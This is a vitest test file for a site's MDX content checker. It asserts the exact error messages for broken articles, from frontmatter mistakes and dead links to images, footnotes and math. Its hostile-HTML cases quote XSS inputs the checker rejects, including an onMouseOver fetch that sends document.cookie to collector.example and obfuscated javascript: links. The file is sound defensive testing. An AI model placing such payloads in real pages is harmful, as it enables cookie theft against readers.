import { execFile } from 'node:child_process';
import { copyFileSync, mkdtempSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { checkContent } from '@/lib/content/check';
import { ContentError } from '@/lib/content/errors';
import { getAllArticles, loadContent } from '@/lib/content/load';

/**
 * Bad content: every kind of broken article gives its own clear error, naming the file and the
 * line, through the path `next build` takes (getAllArticles, which generateStaticParams of
 * app/articles/[slug] calls, in production mode) and through `npm run content:check`.
 *
 * Cases live in test/fixtures/content/build-errors/<case>/ (one folder per case); the cases the
 * loader's own tests already had are reused from test/fixtures/content/broken/<case>/. The one
 * real `next build` of a broken article is e2e/postbuild/broken-build.test.ts (a minute; run by
 * npm run test:e2e), not this file.
 */

const ROOT = path.resolve('.');
const now = new Date('2026-03-15T12:00:00Z');

/** `variantOf`: the same mistake written another way, which rightly reads the same. */
type Case = { name: string; dir: string; expected: string[]; variantOf?: string };

const buildErrors = (name: string, ...expected: string[]): Case => ({
  name,
  dir: `test/fixtures/content/build-errors/${name}`,
  expected: expected.map((line) => `test/fixtures/content/build-errors/${name}/${name}.mdx${line}`),
});
const broken = (name: string, ...expected: string[]): Case => ({
  name,
  dir: `test/fixtures/content/broken/${name}`,
  expected: expected.map((line) => `test/fixtures/content/broken/${name}/${name}.mdx${line}`),
});

const FIELDS = 'expected one of title, description, date, updated, author, tags, takeaways, related, next, series, draft';
const EMBED = 'elements are not allowed in articles: an embedded page or plugin runs its own code and can track readers; link to it instead';
const JAVASCRIPT =
  'the javascript: scheme is not allowed in articles (it runs code when the link is followed); expected an http:, https:, mailto: or tel: URL, or a path such as /articles/<slug>';
const ALLOWED_ELEMENTS = ['a', 'abbr', 'b', 'bdi', 'bdo', 'blockquote', 'br', 'caption', 'cite', 'code', 'col', 'colgroup', 'dd', 'del',
  'details', 'dfn', 'dl', 'dt', 'em', 'figcaption', 'figure', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'ins', 'kbd', 'li', 'mark', 'ol', 'p',
  'pre', 'q', 's', 'samp', 'small', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'time', 'tr',
  'u', 'ul', 'var', 'wbr', 'Callout', 'Figure'].map((name) => `<${name}>`).join(', ');

const IMAGE_SCRIPT =
  'an SVG served from this site could run code when a reader opens it; export it without scripts, handlers or embedded HTML';

// The one fixture too big to commit: a PNG signature followed by 6 MB of nothing (the size rule
// comes first, so the rest is never read). Made here, gitignored.
const TOO_LARGE = 'test/fixtures/content/build-errors/image-too-large/image-too-large.png';
writeFileSync(TOO_LARGE, Buffer.from('89504e470d0a1a0a', 'hex'));
truncateSync(TOO_LARGE, 6 * 1024 * 1024);

const CASES: Case[] = [
  // Frontmatter, one kind of mistake each.
  broken('no-frontmatter', ':1 expected frontmatter at the top of the file: a line "---", the fields (title: …), and a closing "---"'),
  buildErrors('unclosed-frontmatter', ':1 frontmatter is never closed: expected a line "---" after the last field'),
  broken('yaml-error', ':3:1 frontmatter YAML error: Flow sequence in block collection must be sufficiently indented and end with a ]'),
  buildErrors('frontmatter-not-a-mapping', ':2 frontmatter: expected "field: value" lines such as "title: My article"'),
  broken('missing-title', ':8 frontmatter "title": expected a non-empty title, got nothing (the field is missing)'),
  buildErrors('empty-title', ':2 frontmatter "title": expected a non-empty title, got ""'),
  buildErrors('description-too-long', ':3 frontmatter "description": expected at most 200 characters, got 247 characters'),
  broken('bad-date', ':4 frontmatter "date": expected an ISO date such as 2026-03-10, got "March 3"'),
  broken(
    'impossible-date',
    ':4 frontmatter "date": expected a real calendar date, got 2026-02-30',
    ':9 frontmatter "updated": expected a real calendar date, got "2026-02-31"',
  ),
  buildErrors('missing-author', ':8 frontmatter "author": expected the author\'s name, got nothing (the field is missing)'),
  buildErrors('tags-not-a-list', ':6 frontmatter "tags": expected a list of lowercase slugs such as [distributed-systems, consensus], got "consensus"'),
  broken('uppercase-tag', ':8 frontmatter "tags[1]": expected a lowercase slug such as "distributed-systems", got "Databases"'),
  buildErrors('empty-takeaways', ':7 frontmatter "takeaways": expected at least one takeaway, got []'),
  buildErrors('related-not-a-list', ':9 frontmatter "related": expected a list of article slugs such as [zero-downtime-deployments], got "other-article"'),
  buildErrors('bad-next-slug', ':9 frontmatter "next": expected a lowercase slug such as "distributed-systems", got "Not A Slug"'),
  buildErrors('draft-not-boolean', ':9 frontmatter "draft": expected true or false, got "yes"'),
  broken('unknown-key', `:9 frontmatter "tag": unknown field (did you mean "tags"?); ${FIELDS}`, `:10 frontmatter "category": unknown field; ${FIELDS}`),
  // The series field's own shape (rules across the parts: lib/content/series.test.ts).
  buildErrors('series-not-a-mapping', ':9 frontmatter "series": expected a series such as { name: "Consensus in practice", part: 2 }, got "Consensus in practice"'),
  buildErrors('series-without-name', ':9 frontmatter "series.name": expected the series name, such as "Consensus in practice", got nothing (the field is missing)'),
  buildErrors('series-part-not-a-number', ':9 frontmatter "series.part": expected a whole part number such as 2, got "two"'),
  buildErrors('series-part-zero', ':11 frontmatter "series.part": expected a part number of 1 or more, got 0'),
  buildErrors('series-unknown-key', ':12 frontmatter "series.order": unknown field; expected one of name, part, slug'),
  // References between articles.
  broken('unknown-related', ':9 frontmatter "related[0]": no article with slug "nope"'),
  broken('unknown-next', ':9 frontmatter "next": no article with slug "nope"'),
  // Dead internal links, written three ways.
  broken('dead-link', ':13 link to /articles/nope: no article with slug "nope"'),
  { ...buildErrors('dead-link-reference', ':15 link to /articles/nope: no article with slug "nope"'), variantOf: 'dead-link' },
  buildErrors('dead-link-jsx', ':15 link to /articles/gone-for-good: no article with slug "gone-for-good"'),
  // MDX that does not parse.
  buildErrors('unclosed-jsx', ':13:1 MDX syntax error: Expected a closing tag for `<Callout>` (13:1-13:25)'),
  broken('mdx-syntax', ':17:1 MDX syntax error: Unexpected closing tag `</Calout>`, expected corresponding closing tag for `<Callout>` (13:1-13:22)'),
  // Scripts.
  broken('script-tag', ':13 <script> elements are not allowed in articles'),
  { ...buildErrors('script-with-src', ':15 <script> elements are not allowed in articles'), variantOf: 'script-tag' },
  // Hostile HTML: the allow-list (lib/content/html-allowlist.ts), one rule each.
  buildErrors('iframe-element', `:15 <iframe> ${EMBED}`),
  buildErrors('object-element', `:15 <object> ${EMBED}`),
  buildErrors(
    'form-element',
    ":15 <form> elements are not allowed in articles: a form sends what readers type to wherever it points; the newsletter box is the site's only form",
  ),
  buildErrors(
    'style-element',
    ':15 <style> elements are not allowed in articles: a stylesheet restyles the whole page, not only the article; the site styles articles',
  ),
  buildErrors('unlisted-element', `:15 <video> is not an element articles may use: expected one of ${ALLOWED_ELEMENTS}`),
  buildErrors(
    'event-handler-attribute',
    ':15 <span onMouseOver="fetch(`https://collector.example/?c=${document.cookie}`)">: event-handler attributes are not allowed in articles (they run code in the reader\'s browser)',
  ),
  buildErrors(
    'style-attribute',
    ':15 <span style="position:fixed;inset:0;background:white">: inline styles are not allowed in articles (the site styles articles; CSS can cover the page with a fake one or load images from other servers)',
  ),
  buildErrors('javascript-href-jsx', `:15 <a href="javascript:alert(document.cookie)">: ${JAVASCRIPT}`),
  buildErrors('javascript-link-markdown', `:15 link to javascript:alert(document.cookie): ${JAVASCRIPT}`),
  // &#106; is "j", &#x09; a tab (browsers drop tabs inside URLs), &#58; the colon, &#x4A; "J" after two spaces.
  buildErrors(
    'entity-obfuscated-javascript',
    `:15 link to java\\tScript:alert(document.cookie): ${JAVASCRIPT}`,
    `:15 <a href="  Javascript:alert(1)">: ${JAVASCRIPT}`,
  ),
  buildErrors(
    'data-url',
    ':15 image data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53M…: the data: scheme is not allowed in articles (it carries a whole document or script inside the URL); expected an http:, https:, mailto: or tel: URL, or a path such as /articles/<slug>',
  ),
  buildErrors(
    'attribute-expression',
    ':15 <a href={…}>: attribute values on HTML elements must be plain text such as href="…" (the check cannot see what an expression holds)',
  ),
  // Images: where the file is, that it is there and readable as what it claims, and alt text.
  buildErrors(
    'image-missing-file',
    ':15 image ./diagrams/replication.png: no such file (looked for test/fixtures/content/build-errors/image-missing-file/diagrams/replication.png)',
  ),
  buildErrors(
    'image-missing-alt',
    ':15 image ./image-missing-alt.png: no alt text; describe what it shows for readers who cannot see it, as ![Replication lag over one day](./image-missing-alt.png), or mark a purely decorative image <Figure src="./image-missing-alt.png" decorative />',
  ),
  buildErrors(
    'figure-missing-alt',
    ':15 <Figure src="./figure-missing-alt.png">: no alt text; expected alt="what the image shows", or decorative for a purely decorative image',
  ),
  buildErrors(
    'image-too-large',
    ':15 image ./image-too-large.png: the file is 6 MB, over the 5 MB limit: export it smaller (1600 pixels wide is plenty; the site makes the smaller sizes itself)',
  ),
  // A TIFF named .png: the content decides, not the name.
  buildErrors(
    'image-unsupported-type',
    ':15 image ./image-unsupported-type.png: a TIFF image, which not every browser shows: expected PNG, JPEG, WebP, AVIF, SVG or GIF; export it as one of those',
  ),
  buildErrors('image-svg-script', `:15 image ./image-svg-script.svg: the SVG contains <script> (line 3 of the SVG): ${IMAGE_SCRIPT}`),
  buildErrors(
    'image-svg-without-size',
    ':15 image ./image-svg-without-size.svg: the SVG has no size, so the page cannot reserve its space: give its <svg> element a viewBox (or a width and a height)',
  ),
  buildErrors(
    'image-remote',
    ':15 image https://example.com/chart.png: expected a file in content/ written relative to this article, such as ./<slug>/diagram.png (pages load images only from this site, and each one is measured and resized at build time)',
  ),
  buildErrors(
    'image-reference',
    ':15 image ![A diagram][diagram]: write images inline, as ![alt text](./<slug>/diagram.png), so each one is measured and resized at build time',
  ),
  buildErrors(
    'spread-attribute',
    ":15 <span {...{ onClick: 'alert(document.cookie)' }}>: spread attributes are not allowed on HTML elements (the check cannot see what they set); write each attribute as name=\"value\"",
  ),
  // Footnotes: every reference has its note, every note a reference.
  buildErrors('footnote-undefined', ':15 footnote reference [^overlap] has no definition: expected a line "[^overlap]: The note." (write \\[^overlap] for the text itself)'),
  buildErrors(
    'footnote-unreferenced',
    ':17 footnote [^overlap] is defined but never referenced: expected [^overlap] in the text where the note belongs, or remove the definition (readers would never see it)',
  ),
  buildErrors('footnote-defined-twice', ':18 footnote [^overlap] is defined twice (first on line 17): readers only see the first; give this note its own label'),
  // Math: KaTeX's own message, at the line of the formula where it stops.
  buildErrors('math-inline-malformed', ":15 math: KaTeX parse error: Expected 'EOF', got '}' at position 24: …n/2 \\rfloor + 1}̲"),
  buildErrors('math-display-malformed', ":19 math: KaTeX parse error: Expected 'EOF', got '\\right' at position 56: …\\neq \\emptyset \\̲r̲i̲g̲h̲t̲)"),
  buildErrors('math-fence-malformed', ":16 math: KaTeX parse error: Unexpected end of input in a macro argument, expected '}' at end of input: \\frac{n}{2"),
  buildErrors(
    'math-untrusted-command',
    ':15 math: \\href is not allowed in formulas: it would put a link, an image or HTML attributes into the page (KaTeX shows it as an error); write links and images in the text',
  ),
  buildErrors(
    'math-dollar-amounts',
    ':15 inline math $5 a month and a quorum of three costs $ looks like dollar amounts in prose: write \\$ for a dollar sign; a formula has no space just inside its $…$ and no digit right after it',
  ),
  // Code fences' options.
  buildErrors('code-lines-out-of-range', ':15 code block lines {2,4-6}: lines 4, 5, 6 are past the end of the block, which has 2 lines'),
  buildErrors('code-lines-malformed', ':15 code block lines {2,5-}: expected line numbers and ranges such as {3,5-7} (first line 1, each range from low to high)'),
  buildErrors(
    'code-unknown-option',
    ':15 unknown code block option "showLinenumbers" (did you mean "showLineNumbers"?): expected title="…", {3,5-7} (highlighted lines), showLineNumbers or diff',
  ),
  buildErrors('code-title-quotes', ":15 code block option title='quorum.ts': expected title=\"…\" in double quotes, closed on the same line"),
  buildErrors('diff-line-marker', ':19 diff block line 4 starts with "c": expected +, - or a space at the start of every line (the marker column)'),
];

function errorOf(run: () => unknown): ContentError {
  try {
    run();
  } catch (error) {
    if (error instanceof ContentError) return error;
    throw error;
  }
  throw new Error('loaded without a ContentError');
}

afterEach(() => {
  vi.unstubAllEnvs();
});

describe('every build-errors case is listed here', () => {
  it('one case per folder, none forgotten', () => {
    const folders = readdirSync('test/fixtures/content/build-errors', { withFileTypes: true })
      .filter((entry) => entry.isDirectory())
      .map((entry) => entry.name)
      .sort();
    const listed = CASES.filter((c) => c.dir.includes('/build-errors/')).map((c) => c.name).sort();
    expect(listed).toEqual(folders);
  });

  it('each case has its own message (no two kinds of mistake read the same)', () => {
    const reason = (c: Case) => c.expected.map((line) => line.replace(/^\S+ /, '')).join('\n');
    const kinds = CASES.filter((c) => c.variantOf === undefined);
    expect(new Set(kinds.map(reason)).size).toBe(kinds.length);
    for (const variant of CASES.filter((c) => c.variantOf !== undefined)) {
      expect(reason(variant)).toBe(reason(CASES.find((c) => c.name === variant.variantOf)!));
    }
  });
});

describe.each(CASES.map((c) => [c.name, c] as const))('%s', (_name, c) => {
  it('next build: getAllArticles (generateStaticParams) fails with exactly this message, file and line', () => {
    vi.stubEnv('NODE_ENV', 'production');
    const error = errorOf(() => getAllArticles({ dir: path.resolve(c.dir), now }));
    expect(error.lines).toEqual(c.expected);
    expect(error.message).toBe(c.expected.length === 1 ? c.expected[0] : `${c.expected.length} problems in content:\n${c.expected.join('\n')}`);
    for (const line of error.lines) expect(line).toMatch(/^test\/fixtures\/content\/[\w/-]+\.mdx:\d+(:\d+)? \S/);
    // Again in the same process: the same message (a parser cache once turned a YAML error into
    // "title is missing" the second time round).
    expect(errorOf(() => getAllArticles({ dir: path.resolve(c.dir), now })).lines).toEqual(c.expected);
  });

  it('the loader in development mode too (drafts shown), for the editor running npm run dev', () => {
    const error = errorOf(() => loadContent({ dir: path.resolve(c.dir), now, includeDrafts: true, root: ROOT }));
    expect(error.lines).toEqual(c.expected);
  });

  it('content:check reports the same', async () => {
    const result = await checkContent({ dir: path.resolve(c.dir), now });
    expect(result.problems).toEqual(c.expected);
  });
});

describe('npm run content:check over all of them at once', () => {
  it('exits 1 and prints every case\'s own line', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'build-errors-'));
    try {
      // Each case's files side by side: its article and the images it names (named after the case).
      for (const c of CASES) for (const name of readdirSync(c.dir)) copyFileSync(path.join(c.dir, name), path.join(dir, name));
      const run = promisify(execFile);
      const failure = await run(path.resolve('node_modules/.bin/tsx'), ['--import', path.resolve('scripts/lib/server-only.mjs'), path.resolve('scripts/content-check.ts'), dir], { cwd: ROOT }).then(
        () => undefined,
        (error: { code: number; stderr: string }) => error,
      );
      expect(failure?.code).toBe(1);
      const printed = failure!.stderr.split(dir + path.sep).join('');
      for (const c of CASES) {
        // Paths inside a message (an image looked for) are relative to the copy too.
        for (const line of c.expected) expect(printed).toContain(line.replace(/^\S*\//, '').split(`${c.dir}/`).join(''));
      }
      expect(printed.trim().split('\n').at(-1)).toBe(`${CASES.reduce((n, c) => n + c.expected.length, 0)} problems in ${CASES.length} articles`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);
});
